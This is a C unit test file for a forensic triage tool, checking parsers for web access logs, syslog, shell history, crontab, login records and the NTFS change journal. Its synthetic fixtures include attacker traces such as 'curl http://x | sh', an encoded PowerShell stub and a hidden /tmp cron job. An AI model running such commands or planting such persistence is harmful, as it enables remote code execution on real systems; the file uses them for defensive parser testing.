/* Logs of lines, and records of fixed form. */
#include "core/case/help_case.h"
#include "core/finding/triage/help_rows.h"

#include "finding/triage/artefact/lines.h"

#include <stdlib.h>
#include <string.h>

#define T0 UINT64_C(134080704000000000) /* FILETIME of 2025-11-20T00:00:00Z */

static struct parsed parse(const char *parser, const char *path, const char *text)
{
	return parse_bytes(parser, path, text, strlen(text));
}

static void web_servers_of_both_kinds(void **state)
{
	(void)state;
	struct parsed p = parse(
	    "web_log", "var/log/access.log",
	    "203.0.113.9 - - [20/Nov/2025:10:00:01 +0900] \"POST /up.php?x=1 HTTP/1.1\" 200 2326 \"-\" \"curl/8\"\n"
	    "www.example:443 203.0.113.9 - bob [20/Nov/2025:10:00:02 +0900] \"GET / HTTP/1.1\" 404 - \"http://r\" "
	    "\"M\"\n"
	    "nonsense\n"
	    "203.0.113.9 - - [20/Nov/2025:10:00:03 +0900] \"GET /last");
	assert_int_equal(json_array_size(p.rows), 2);
	assert_int_equal(json_array_size(p.problems), 1);
	assert_string_equal(row_text(&p, 0, "when"), "2025-11-20T01:00:01.0000000Z");
	assert_string_equal(row_text(&p, 0, "method"), "POST");
	assert_string_equal(row_text(&p, 0, "url"), "/up.php?x=1");
	assert_string_equal(row_text(&p, 0, "status"), "200");
	assert_string_equal(row_text(&p, 0, "bytes"), "2326");
	assert_string_equal(row_text(&p, 0, "user_agent"), "curl/8");
	assert_string_equal(row_text(&p, 1, "host"), "www.example:443");
	assert_string_equal(row_text(&p, 1, "client"), "203.0.113.9");
	assert_string_equal(row_text(&p, 1, "user"), "bob");
	assert_string_equal(row_text(&p, 1, "referrer"), "http://r");
	parsed_release(&p);
	/* without a zone, or with one that is none, the time is the server's own */
	p = parse("web_log", "var/log/access.log",
	          "203.0.113.9 - - [20/Nov/2025:10:00:01] \"GET / HTTP/1.1\" 200 1\n"
	          "203.0.113.9 - - [20/Nov/2025:10:00:01 99999999999999999999] \"GET / HTTP/1.1\" 200 1\n"
	          "203.0.113.9 - - [20/Nov/2025:10:00:01 -0330] \"GET / HTTP/1.1\" 200 1\n");
	assert_int_equal(json_array_size(p.rows), 3);
	for (size_t i = 0; i < 2; i++) {
		assert_string_equal(row_text(&p, i, "when"), "2025-11-20T10:00:01.0000000Z");
		assert_string_equal(row_text(&p, i, "clock"), "local");
	}
	assert_string_equal(row_text(&p, 2, "when"), "2025-11-20T13:30:01.0000000Z");
	assert_string_equal(row_text(&p, 2, "clock"), "utc");
	parsed_release(&p);
	p = parse("web_log", "u_ex251120.log",
	          "#Software: Microsoft Internet Information Services 10.0\r\n"
	          "#Fields: date time c-ip cs-method cs-uri-stem sc-status cs(User-Agent)\r\n"
	          "2025-11-20 01:00:00 203.0.113.9 POST /a.aspx 200 curl/8\r\n");
	assert_int_equal(json_array_size(p.rows), 1);
	assert_string_equal(row_text(&p, 0, "when"), "2025-11-20T01:00:00.0000000Z");
	assert_string_equal(row_text(&p, 0, "client"), "203.0.113.9");
	assert_string_equal(row_text(&p, 0, "url"), "/a.aspx");
	parsed_release(&p);
}

static int is_web_log(const char *path, const char *text)
{
	size_t n = strlen(text);
	return web_log_recognises(path, (const unsigned char *)text, n < TRIAGE_HEAD ? n : TRIAGE_HEAD);
}

static void web_logs_bear_any_name(void **state)
{
	(void)state;
	assert_true(
	    is_web_log("webmail.log", "203.0.113.9 - - [20/Nov/2025:10:00:01 +0900] \"POST /login HTTP/1.1\" 200 1\n"));
	assert_true(is_web_log(
	    "a",
	    "2001:0db8:85a3:0000:0000:8a2e:0370:7334 - - [20/Nov/2025:10:00:01 +0900] \"GET / HTTP/1.1\" 200 1\n"));
	assert_true(is_web_log(
	    "a", "www.example:443 203.0.113.9 - bob [20/Nov/2025:10:00:02 +0900] \"GET / HTTP/1.1\" 404 -\n"));
	assert_true(is_web_log("a", "203.0.113.9 - - [20/Nov/2025:10:00:01] \"-\" 408 -\n"));
	assert_false(
	    is_web_log("error.log", "[Thu Nov 20 10:00:01 2025] [core:error] [pid 1] File does not exist: /x\n"));
	assert_false(
	    is_web_log("error.log", "2025/11/20 10:00:01 [error] 1#1: *1 open() failed, client: 203.0.113.9\n"));
	assert_false(is_web_log("notes.txt", "seen - at [20/Nov/2025:10:00:01 +0900] in the log\n"));
	assert_false(is_web_log("notes.txt", "[20/Nov/2025:10:00:01 +0900] \"GET /\"\n"));
	assert_false(is_web_log("empty", ""));
}

static void system_logs_say_what_their_clock_is(void **state)
{
	(void)state;
	struct parsed p = parse("syslog", "var/log/auth.log",
	                        "Nov 20 10:00:00 web sshd[77]: Failed password for root\n"
	                        "2025-11-20T10:00:00.5+09:00 web sudo: sato : COMMAND=/bin/sh\n"
	                        "2025-11-20T10:00:00.123456+0900 web sudo: no colon in the zone\n"
	                        "2025-11-20T10:00:00 web sudo: no zone\n"
	                        "2025-11-20T10:00:00+99 web sudo: no zone that is one\n");
	assert_int_equal(json_array_size(p.rows), 5);
	/* without a year and without the file's time, none is invented */
	assert_true(json_is_null(json_object_get(json_array_get(p.rows, 0), "when")));
	assert_string_equal(row_text(&p, 0, "time"), "Nov 20 10:00:00");
	assert_string_equal(row_text(&p, 0, "program"), "sshd");
	assert_string_equal(row_text(&p, 0, "pid"), "77");
	assert_string_equal(row_text(&p, 0, "message"), "Failed password for root");
	assert_string_equal(row_text(&p, 1, "when"), "2025-11-20T01:00:00.5000000Z");
	assert_string_equal(row_text(&p, 1, "clock"), "utc");
	assert_string_equal(row_text(&p, 2, "when"), "2025-11-20T01:00:00.1234560Z");
	assert_string_equal(row_text(&p, 2, "clock"), "utc");
	assert_string_equal(row_text(&p, 3, "when"), "2025-11-20T10:00:00.0000000Z");
	assert_string_equal(row_text(&p, 3, "clock"), "local");
	assert_string_equal(row_text(&p, 4, "clock"), "local");
	parsed_release(&p);
}

static void shells_and_cron_tell_commands(void **state)
{
	(void)state;
	struct parsed p = parse("shell_history", "home/sato/.bash_history",
	                        "#1763600000\ncurl http://x | sh\nls\n: 1763600001:0;rm x\n");
	assert_int_equal(json_array_size(p.rows), 3);
	assert_string_equal(row_text(&p, 0, "command"), "curl http://x | sh");
	assert_string_equal(row_text(&p, 0, "when"), "2025-11-20T00:53:20.0000000Z");
	assert_string_equal(row_text(&p, 0, "user"), "sato");
	assert_true(json_is_null(json_object_get(json_array_get(p.rows, 1), "when")));
	assert_string_equal(row_text(&p, 2, "command"), "rm x");
	assert_string_equal(row_text(&p, 2, "when"), "2025-11-20T00:53:21.0000000Z");
	parsed_release(&p);
	p = parse("cron", "etc/crontab",
	          "# x\nSHELL=/bin/sh\n*/5 * * * * root /tmp/.x -q\n@reboot sato /tmp/y\n* * *\n");
	assert_int_equal(json_array_size(p.rows), 2);
	assert_int_equal(json_array_size(p.problems), 1);
	assert_string_equal(row_text(&p, 0, "schedule"), "*/5 * * * *");
	assert_string_equal(row_text(&p, 0, "command"), "/tmp/.x -q");
	assert_string_equal(row_text(&p, 1, "user"), "sato");
	parsed_release(&p);
	p = parse("cron", "var/spool/cron/crontabs/sato", "0 1 * * * /tmp/z\n");
	assert_string_equal(row_text(&p, 0, "user"), "sato");
	assert_string_equal(row_text(&p, 0, "command"), "/tmp/z");
	parsed_release(&p);
}

static void what_is_cut_of_a_line_is_told(void **state)
{
	(void)state;
	struct buf b = BUF_INIT;
	buf_adds(&b, "ls\npowershell -enc ");
	for (int i = 0; i < 20000; i++)
		buf_addc(&b, 'A');
	buf_adds(&b, "\npwd\n");
	struct parsed p = parse("shell_history", "home/sato/.bash_history", b.data);
	assert_int_equal(json_array_size(p.rows), 3);
	assert_string_equal(row_text(&p, 2, "command"), "pwd");
	assert_int_equal(json_array_size(p.problems), 1);
	const json_t *problem = json_array_get(p.problems, 0);
	assert_int_equal(json_integer_value(json_object_get(problem, "offset")), 3);
	assert_non_null(strstr(json_string_value(json_object_get(problem, "reason")), "1 line is longer"));
	parsed_release(&p);
	buf_release(&b);
}

static void logins_are_read(void **state)
{
	(void)state;
	unsigned char record[384 + 10] = {7};
	memcpy(record + 8, "pts/0", 5);
	memcpy(record + 44, "sato", 4);
	memcpy(record + 76, "evil", 4);
	struct buf b = BUF_INIT;
	buf_add(&b, record, sizeof record);
	set_le(&b, 340, 1763600000, 4);
	set_le(&b, 348, 0x097100CB, 4);
	struct parsed p = parse_bytes("login_record", "var/log/wtmp", b.data, b.len);
	assert_int_equal(json_array_size(p.rows), 1);
	assert_int_equal(json_array_size(p.problems), 1); /* ten bytes of another */
	assert_string_equal(row_text(&p, 0, "user"), "sato");
	assert_string_equal(row_text(&p, 0, "address"), "203.0.113.9");
	assert_string_equal(row_text(&p, 0, "time_of"), "logged_on");
	parsed_release(&p);
	p = parse_bytes("login_record", "var/log/btmp", b.data, 384);
	assert_true(json_is_true(json_object_get(json_array_get(p.rows, 0), "failed")));
	parsed_release(&p);
	/* one that was wiped, one of no known form, and one behind them */
	struct buf three = BUF_INIT;
	buf_add(&three, b.data, 384);
	for (int i = 0; i < 384; i++)
		buf_addc(&three, 0);
	for (int i = 0; i < 2; i++)
		buf_add(&three, b.data, 384);
	set_le(&three, 768, 77, 2);
	p = parse_bytes("login_record", "var/log/wtmp", three.data, three.len);
	assert_int_equal(json_array_size(p.rows), 2);
	assert_int_equal(json_array_size(p.problems), 2);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(p.problems, 0), "offset")), 768);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(p.problems, 1), "offset")), 384);
	parsed_release(&p);
	/* utmp has room that is not used */
	set_le(&three, 768, 7, 2);
	p = parse_bytes("login_record", "run/utmp", three.data, three.len);
	assert_int_equal(json_array_size(p.rows), 3);
	assert_int_equal(json_array_size(p.problems), 0);
	parsed_release(&p);
	buf_release(&three);
	buf_release(&b);
}

static void put_usn(struct buf *b, unsigned version, const char *name, uint32_t reason)
{
	size_t at = b->len;
	size_t head = version == 2 ? 60 : 76;
	for (size_t i = 0; i < head; i++)
		buf_addc(b, 0);
	put_utf16(b, name);
	while ((b->len - at) % 8)
		buf_addc(b, 0);
	size_t shift = head - 60;
	set_le(b, at, b->len - at, 4);
	set_le(b, at + 4, version, 2);
	set_le(b, at + 8, 5, 6);
	set_le(b, at + (version == 2 ? 16 : 24), 6, 6);
	set_le(b, at + 24 + shift, 4096, 8);
	set_le(b, at + 32 + shift, T0, 8);
	set_le(b, at + 40 + shift, reason, 4);
	set_le(b, at + 56 + shift, 2 * strlen(name), 2);
	set_le(b, at + 58 + shift, head, 2);
}

static void the_change_journal_is_read(void **state)
{
	(void)state;
	struct buf b = BUF_INIT;
	for (size_t i = 0; i < 8192; i++) /* a sparse beginning */
		buf_addc(&b, 0);
	put_usn(&b, 2, "secret.rar", 0x100);
	put_usn(&b, 3, "secret.rar", 0x80000200);
	struct parsed p = parse_bytes("usn", "$Extend/$UsnJrnl:$J", b.data, b.len);
	assert_string_equal(p.failed, "");
	assert_int_equal(json_array_size(p.rows), 2);
	assert_int_equal(json_array_size(p.problems), 0);
	assert_string_equal(row_text(&p, 0, "name"), "secret.rar");
	assert_string_equal(row_text(&p, 0, "reason"), "file_create");
	assert_string_equal(row_text(&p, 1, "reason"), "file_delete,close");
	assert_string_equal(row_text(&p, 1, "inode"), "5");
	assert_string_equal(row_text(&p, 1, "parent"), "6");
	assert_string_equal(row_text(&p, 1, "when"), "2025-11-20T00:00:00.0000000Z");
	parsed_release(&p);
	/* damage between two is told, and the second is found */
	set_le(&b, 8192, 7, 4);
	p = parse_bytes("usn", "$J", b.data, b.len);
	assert_int_equal(json_array_size(p.rows), 1);
	assert_int_equal(json_array_size(p.problems), 1);
	parsed_release(&p);
	/* a size that would take the second along does not */
	set_le(&b, 8192, b.len - 8192, 4);
	p = parse_bytes("usn", "$J", b.data, b.len);
	assert_int_equal(json_array_size(p.rows), 2);
	assert_string_equal(row_text(&p, 1, "reason"), "file_delete,close");
	parsed_release(&p);
	buf_release(&b);
}

static void extents_of_the_change_journal_are_read(void **state)
{
	(void)state;
	struct buf b = BUF_INIT;
	for (size_t i = 0; i < 80; i++)
		buf_addc(&b, 0);
	set_le(&b, 0, 80, 4);
	set_le(&b, 4, 4, 2);
	set_le(&b, 8, 5, 6);
	set_le(&b, 24, 6, 6);
	set_le(&b, 40, 4096, 8);
	set_le(&b, 48, 2, 4);
	set_le(&b, 60, 1, 2);
	set_le(&b, 62, 16, 2);
	set_le(&b, 72, 300, 8);
	put_usn(&b, 3, "secret.rar", 0x100);
	struct parsed p = parse_bytes("usn", "$J", b.data, b.len);
	assert_int_equal(json_array_size(p.rows), 2);
	assert_int_equal(json_array_size(p.problems), 0);
	assert_true(json_is_null(json_object_get(json_array_get(p.rows, 0), "when")));
	assert_string_equal(row_text(&p, 0, "reason"), "data_extend");
	assert_string_equal(row_text(&p, 0, "changed_bytes"), "300");
	assert_string_equal(row_text(&p, 0, "inode"), "5");
	assert_string_equal(row_text(&p, 1, "name"), "secret.rar");
	parsed_release(&p);
	buf_release(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(web_servers_of_both_kinds),
	    cmocka_unit_test(web_logs_bear_any_name),
	    cmocka_unit_test(system_logs_say_what_their_clock_is),
	    cmocka_unit_test(shells_and_cron_tell_commands),
	    cmocka_unit_test(logins_are_read),
	    cmocka_unit_test(the_change_journal_is_read),
	    cmocka_unit_test(what_is_cut_of_a_line_is_told),
	    cmocka_unit_test(extents_of_the_change_journal_are_read),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
